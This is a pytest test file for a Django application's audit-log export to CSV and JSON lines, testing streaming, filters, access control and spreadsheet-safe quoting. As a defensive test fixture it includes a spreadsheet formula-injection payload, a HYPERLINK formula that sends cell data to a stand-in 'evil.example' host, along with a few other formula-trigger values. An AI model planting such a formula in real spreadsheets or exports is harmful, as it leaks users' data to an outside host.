"""The audit log as a CSV or JSON-lines file, from the Audit log tab and from
`GET /api/audit-events/export/`: every event the filters select, streamed, for readers only."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timedelta

import pytest
from asgiref.sync import async_to_sync
from django.db import connection
from django.test import AsyncClient
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from rest_framework.test import APIClient

from accounts.jwt import issue_tokens
from apikeys import audit_export, services
from apikeys.api.serializers.audit import SINCE_AFTER_UNTIL
from apikeys.api.views.audit import FORMAT_IS_NOT_THE_FILE_FORMAT
from apikeys.permissions import MISSING_SCOPE
from core.models import AuditAction, AuditEvent
from organizations.api.permissions import NOT_ORGANIZATION_MEMBER, WRONG_ORGANIZATION
from organizations.permissions import AUDIT_NOT_VISIBLE
from tests.helpers import signed_in

pytestmark = pytest.mark.django_db

EXPORT = "/api/audit-events/export/"
EVENTS = "/api/audit-events/"
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


def body_of(response) -> str:
    assert response.streaming, response
    return b"".join(response.streaming_content).decode()


def csv_rows(response) -> list[dict[str, str]]:
    text = body_of(response)
    reader = csv.DictReader(io.StringIO(text, newline=""))
    assert tuple(reader.fieldnames) == audit_export.CSV_COLUMNS
    return list(reader)


def json_lines(response) -> list[dict]:
    text = body_of(response)
    assert text == "" or text.endswith("\n")
    return [json.loads(line) for line in text.splitlines()]


def export(client, org, query="", file_format="csv"):
    response = client.get(f"{EXPORT}?organization_id={org.pk}&file_format={file_format}{query}")
    assert response.status_code == 200, response.content if not response.streaming else ""
    return response


def page_export(client, org, file_format="csv", query=None):
    url = reverse("audit-log-export", args=[org.pk, file_format])
    return client.get(url, query or {})


def bulk_events(org, count, **fields):
    """`count` events, one a second into the past, written in one statement (the trail is
    append-only: `bulk_create` inserts, it changes nothing)."""
    now = timezone.now()
    return AuditEvent.objects.bulk_create(
        AuditEvent(
            organization=org,
            action=AuditAction.KEY_RENAMED,
            actor_email="owner@example.com",
            key_prefix="kp_live_bulk0000",
            created_at=now - timedelta(seconds=n + 1),
            details={"name": f"Name {n}", "previous_name": f"Name {n - 1}"},
            **fields,
        )
        for n in range(count)
    )


# Formats --------------------------------------------------------------------------------


def test_the_csv_has_a_header_and_a_row_per_event_newest_first(owner, org, make_key):
    key, _ = make_key(name="Billing", scopes=["api_keys:manage"])
    services.api_key_pause(key=key, actor=owner, acting_key=key)

    rows = csv_rows(export(signed_in(owner), org))

    assert [row["action"] for row in rows] == ["api_key.paused", "api_key.created"]
    paused, created = rows
    assert paused["action_label"] == "Key paused"
    assert paused["actor_key_prefix"] == key.prefix  # the change was made with the key
    assert created["actor_key_prefix"] == ""
    assert created["organization_id"] == str(org.pk)
    assert created["actor_email"] == owner.email and created["actor_id"] == str(owner.pk)
    assert created["api_key_id"] == str(key.pk) and created["key_prefix"] == key.prefix
    assert json.loads(created["details"])["name"] == "Billing"
    assert " " not in created["details"]  # compact JSON
    stored = AuditEvent.objects.get(action=AuditAction.KEY_CREATED)
    assert datetime.fromisoformat(created["created_at"]) == stored.created_at


def test_each_json_line_is_the_event_as_the_list_returns_it(owner, org, make_key):
    key, _ = make_key(name="Billing")
    services.api_key_rename(key=key, actor=owner, name="Billing v2", acting_key=None)
    services.api_key_revoke(key=key, actor=owner, acting_key=None)
    client = signed_in(owner)

    lines = json_lines(export(client, org, file_format="ndjson"))

    listed = client.get(f"{EVENTS}?organization_id={org.pk}").json()["results"]
    assert lines == listed
    assert [line["action"] for line in lines] == [
        "api_key.revoked",
        "api_key.renamed",
        "api_key.created",
    ]


def test_cells_a_spreadsheet_would_run_are_quoted_in_the_csv_only(owner, org, make_key):
    make_key(name=FORMULA)
    AuditEvent.objects.create(
        organization=org,
        action=AuditAction.MEMBER_ADDED,
        actor_email="=1+1@example.com",  # a valid address
        request_id="-2-3",  # within X-Request-ID's alphabet
        details={"email": "@SUM(A1:A9)"},
    )
    AuditEvent.objects.create(
        organization=org, action=AuditAction.MEMBER_REMOVED, actor_email="+1@example.com"
    )
    client = signed_in(owner)

    rows = csv_rows(export(client, org))
    lines = json_lines(export(client, org, file_format="ndjson"))

    removed, added, created = rows
    assert removed["actor_email"] == "'+1@example.com"
    assert added["actor_email"] == "'=1+1@example.com"
    assert added["request_id"] == "'-2-3"
    assert json.loads(created["details"])["name"] == FORMULA  # inside JSON: never a formula
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(audit_export.FORMULA_TRIGGERS), cell
    # Programs read JSON lines: the values stay as they were recorded.
    assert lines[1]["actor_email"] == "=1+1@example.com"
    assert lines[2]["details"]["name"] == FORMULA


@pytest.mark.parametrize("value", ["=A1", "+A1", "-A1", "@A1", "\tA1", "\rA1"])
def test_every_formula_trigger_is_defused(value):
    assert audit_export.spreadsheet_safe(value) == f"'{value}"
    assert audit_export.spreadsheet_safe(f"x{value}") == f"x{value}"


def test_the_file_is_an_attachment_named_for_the_organization_and_day_never_cached(owner, org):
    client = signed_in(owner)
    today = timezone.localdate().isoformat()

    responses = {
        ("api", "csv"): export(client, org),
        ("api", "ndjson"): export(client, org, file_format="ndjson"),
        ("page", "csv"): page_export(client, org),
        ("page", "ndjson"): page_export(client, org, "ndjson"),
    }

    for (_, file_format), response in responses.items():
        assert response.status_code == 200 and response.streaming
        assert response["Content-Disposition"] == (
            f'attachment; filename="audit-{org.slug}-{today}.{file_format}"'
        )
        assert response["Cache-Control"] == "no-store"
        media_type = audit_export.MEDIA_TYPES[file_format]
        assert response["Content-Type"] == f"{media_type}; charset=utf-8"


# Streaming ------------------------------------------------------------------------------


def _export_counting_queries(client, org, file_format):
    with CaptureQueriesContext(connection) as queries:
        response = export(client, org, file_format=file_format)
        text = body_of(response)
    return text, len(queries.captured_queries)


@pytest.mark.parametrize("file_format", audit_export.FILE_FORMATS)
def test_thousands_of_events_stream_whole_in_a_constant_number_of_queries(owner, org, file_format):
    client = signed_in(owner)
    bulk_events(org, 3)
    _, few = _export_counting_queries(client, org, file_format)
    bulk_events(org, 4997)  # more than two database chunks

    text, many = _export_counting_queries(client, org, file_format)

    assert many == few <= 6
    if file_format == "csv":
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
        created = [row["created_at"] for row in rows]
    else:
        rows = [json.loads(line) for line in text.splitlines()]
        created = [row["created_at"] for row in rows]
    assert len(rows) == 5000
    assert created == sorted(created, reverse=True)


def test_no_event_is_read_before_the_server_sends_the_body(owner, org):
    bulk_events(org, 3)
    client = signed_in(owner)

    with CaptureQueriesContext(connection) as view:
        response = export(client, org)
    with CaptureQueriesContext(connection) as body:
        rows = list(csv.DictReader(io.StringIO(body_of(response), newline="")))

    # The view returns before the trail is read: on PostgreSQL the cursor is declared
    # outside any transaction the view may run in, so none has to stay open meanwhile.
    assert not [q for q in view.captured_queries if "apikeys_auditevent" in q["sql"]]
    assert len(body.captured_queries) == 1 and len(rows) == 3


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("file_format", audit_export.FILE_FORMATS)
def test_the_export_streams_in_autocommit_across_database_chunks(owner, org, file_format):
    # No test transaction around it: on PostgreSQL, Django's server-side cursor is then
    # declared WITH HOLD and read chunk by chunk outside a transaction, as in production.
    bulk_events(org, audit_export.CHUNK_SIZE * 2 + 1)
    assert not connection.in_atomic_block

    response = export(signed_in(owner), org, file_format=file_format)
    text = body_of(response)

    assert len(text.splitlines()) == audit_export.CHUNK_SIZE * 2 + 1 + (file_format == "csv")


def test_under_asgi_the_export_is_sent_piece_by_piece(owner, org):
    bulk_events(org, audit_export.ROWS_PER_WRITE * 2 + 1)

    async def download():
        client = AsyncClient()
        await client.aforce_login(owner)
        response = await client.get(f"{EXPORT}?organization_id={org.pk}&file_format=ndjson")
        return response, [chunk async for chunk in response.streaming_content]

    response, chunks = async_to_sync(download)()

    # An async iterator: Django would read a synchronous one whole into memory first.
    assert response.status_code == 200 and response.is_async
    assert len(chunks) == 3  # two full pieces, then the last line
    assert len(b"".join(chunks).decode().splitlines()) == audit_export.ROWS_PER_WRITE * 2 + 1


# Filters --------------------------------------------------------------------------------


@pytest.fixture
def varied_trail(owner, org, make_key):
    """Two keys and a few kinds of event, plus another organization's event."""
    first, _ = make_key(name="First")
    second, _ = make_key(name="Second")
    services.api_key_pause(key=second, actor=owner, acting_key=None)
    services.api_key_rename(key=first, actor=owner, name="First v2", acting_key=None)
    return first, second


@pytest.mark.parametrize(
    "query",
    [
        "",
        "&action=api_key.paused",
        "&api_key={first}",
        "&api_key={first}&action=api_key.renamed",
        "&since={past}",
        "&until={past}",
        "&since={past}&until={future}",
    ],
)
def test_the_api_export_selects_what_the_list_selects(owner, org, varied_trail, query):
    first, _ = varied_trail
    now = timezone.now()
    query = query.format(
        first=first.pk,
        past=(now - timedelta(hours=1)).isoformat().replace("+00:00", "Z"),
        future=(now + timedelta(hours=1)).isoformat().replace("+00:00", "Z"),
    )
    client = signed_in(owner)

    lines = json_lines(export(client, org, query, file_format="ndjson"))

    listed = client.get(f"{EVENTS}?organization_id={org.pk}{query}").json()["results"]
    assert lines == listed


def test_the_page_export_selects_what_the_log_lists(owner, org, varied_trail):
    first, second = varied_trail
    client = signed_in(owner)

    by_key = csv_rows(page_export(client, org, query={"key": str(first.pk)}))
    by_action = json_lines(page_export(client, org, "ndjson", {"action": "api_key.created"}))
    both = csv_rows(
        page_export(client, org, query={"key": str(second.pk), "action": "api_key.paused"})
    )

    assert [row["action"] for row in by_key] == ["api_key.renamed", "api_key.created"]
    assert {row["api_key_id"] for row in by_key} == {str(first.pk)}
    assert [line["api_key_id"] for line in by_action] == [str(second.pk), str(first.pk)]
    assert [(row["action"], row["api_key_id"]) for row in both] == [
        ("api_key.paused", str(second.pk))
    ]


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ("&file_format=csv&action=api_key.exploded", "action"),
        ("&file_format=csv&api_key=nope", "api_key"),
        ("&file_format=csv&since=yesterday", "since"),
        ("&file_format=xlsx", "file_format"),
        ("", "file_format"),  # never a guessed format
        ("&file_format=csv&limit=10", "limit"),  # the whole trail: no pages
        ("&file_format=csv&orgId=x", "orgId"),
        ("&format=csv", "format"),
    ],
)
def test_a_bad_parameter_is_a_json_400_before_any_file(owner, org, query, field):
    response = signed_in(owner).get(f"{EXPORT}?organization_id={org.pk}{query}")

    assert response.status_code == 400 and not response.streaming
    assert response["Content-Type"] == "application/json"
    assert field in response.json()


def test_format_other_than_json_names_file_format(owner, org):
    response = signed_in(owner).get(f"{EXPORT}?organization_id={org.pk}&format=ndjson")

    assert response.json()["format"] == [FORMAT_IS_NOT_THE_FILE_FORMAT]


def test_until_before_since_is_a_400(owner, org):
    response = signed_in(owner).get(
        f"{EXPORT}?organization_id={org.pk}&file_format=csv"
        "&since=2030-01-02T00:00:00Z&until=2030-01-01T00:00:00Z"
    )

    assert response.status_code == 400
    assert response.json()["until"] == [SINCE_AFTER_UNTIL]


@pytest.mark.parametrize("accept", ["text/csv", "application/x-ndjson", "application/json"])
def test_the_accept_header_neither_refuses_nor_changes_the_file(owner, org, accept):
    response = signed_in(owner).get(
        f"{EXPORT}?organization_id={org.pk}&file_format=csv", HTTP_ACCEPT=accept
    )

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"


def test_format_json_is_accepted_as_everywhere(owner, org):
    response = signed_in(owner).get(
        f"{EXPORT}?organization_id={org.pk}&file_format=ndjson&format=json"
    )

    assert response.status_code == 200 and response.streaming


@pytest.mark.parametrize("query", [{"key": "not-a-key"}, {"action": "api_key.deleted"}])
def test_a_bad_page_filter_shows_the_log_with_its_error_not_a_file(owner, org, make_key, query):
    make_key()

    response = page_export(signed_in(owner), org, query=query)

    assert response.status_code == 400 and not response.streaming
    assert "Select a valid choice." in response.content.decode()
    assert list(response.context["events"]) == []


def test_an_unknown_page_format_is_a_404(owner, org):
    assert page_export(signed_in(owner), org, "xlsx").status_code == 404


# Who may export -------------------------------------------------------------------------


@pytest.mark.parametrize("reader", ["owner", "admin", "staff"])
def test_owners_admins_and_staff_export_from_the_api_and_the_page(request, reader, owner, org):
    bulk_events(org, 2)
    client = signed_in(request.getfixturevalue(reader))

    assert len(csv_rows(export(client, org))) == 2
    assert len(json_lines(page_export(client, org, "ndjson"))) == 2


def test_a_member_may_not_export(member, org):
    client = signed_in(member)

    api = client.get(f"{EXPORT}?organization_id={org.pk}&file_format=csv")
    page = page_export(client, org)

    assert (api.status_code, api.json()) == (403, {"detail": AUDIT_NOT_VISIBLE})
    assert page.status_code == 403 and not page.streaming


def test_another_organizations_trail_is_refused_as_by_the_list(owner, org, outsider, other_org):
    bulk_events(other_org, 2)
    client = signed_in(owner)

    api = client.get(f"{EXPORT}?organization_id={other_org.pk}&file_format=csv")
    page = page_export(client, other_org)

    assert (api.status_code, api.json()) == (403, {"detail": NOT_ORGANIZATION_MEMBER})
    assert page.status_code == 404  # the pages hide that the organization exists


def test_a_signed_out_visitor_is_sent_to_sign_in(org):
    api = APIClient().get(f"{EXPORT}?organization_id={org.pk}&file_format=csv")
    page = page_export(APIClient(), org)

    assert api.status_code == 401
    assert page.status_code == 302 and "/accounts/login/" in page["Location"]


def test_an_audit_key_exports_its_own_organizations_trail_by_default(key_client, org):
    client = key_client(scopes=["audit:read"])

    response = client.get(f"{EXPORT}?file_format=ndjson")

    assert response.status_code == 200
    assert json_lines(response)[0]["api_key_id"] == str(client.key.pk)


@pytest.mark.parametrize("scopes", [["organization:read"], ["api_keys:manage", "records:read"]])
def test_a_key_without_the_audit_scope_may_not(key_client, scopes):
    response = key_client(scopes=scopes).get(f"{EXPORT}?file_format=csv")

    assert response.status_code == 403
    assert response.json() == {"detail": MISSING_SCOPE.format(scope="audit:read")}


def test_a_key_may_not_export_another_organization(key_client, other_org):
    response = key_client(scopes=["audit:read"]).get(
        f"{EXPORT}?organization_id={other_org.pk}&file_format=csv"
    )

    assert (response.status_code, response.json()) == (403, {"detail": WRONG_ORGANIZATION})


@pytest.mark.parametrize(("role", "status"), [("owner", 200), ("member", 403)])
def test_an_access_token_exports_as_its_person(request, org, role, status):
    user = request.getfixturevalue(role)
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Bearer {issue_tokens(user=user).access}")

    response = client.get(f"{EXPORT}?organization_id={org.pk}&file_format=csv")

    assert response.status_code == status


def test_a_session_must_name_the_organization(owner):
    response = signed_in(owner).get(f"{EXPORT}?file_format=csv")

    assert response.status_code == 400 and "organization_id" in response.json()


def test_the_export_is_read_only(owner, org):
    response = signed_in(owner).post(f"{EXPORT}?organization_id={org.pk}", {}, format="json")

    assert response.status_code == 405


# The page -------------------------------------------------------------------------------


def test_the_log_links_both_exports_carrying_its_filters(owner, org, make_key):
    key, _ = make_key()
    client = signed_in(owner)
    url = reverse("audit-log", args=[org.pk])

    unfiltered = client.get(url).content.decode()
    filtered = client.get(url, {"key": str(key.pk), "action": "api_key.created", "page": "1"})

    csv_url = reverse("audit-log-export", args=[org.pk, "csv"])
    ndjson_url = reverse("audit-log-export", args=[org.pk, "ndjson"])
    assert f'href="{csv_url}">Export CSV</a>' in unfiltered
    assert f'href="{ndjson_url}">Export JSON lines</a>' in unfiltered
    query = f"?key={key.pk}&amp;action=api_key.created"  # the filters, not the page
    html = filtered.content.decode()
    assert f'href="{csv_url}{query}">Export CSV</a>' in html
    assert f'href="{ndjson_url}{query}">Export JSON lines</a>' in html


def test_a_log_with_a_bad_filter_offers_no_export(owner, org):
    response = signed_in(owner).get(reverse("audit-log", args=[org.pk]), {"action": "nope"})

    assert response.status_code == 400
    assert "Export CSV" not in response.content.decode()
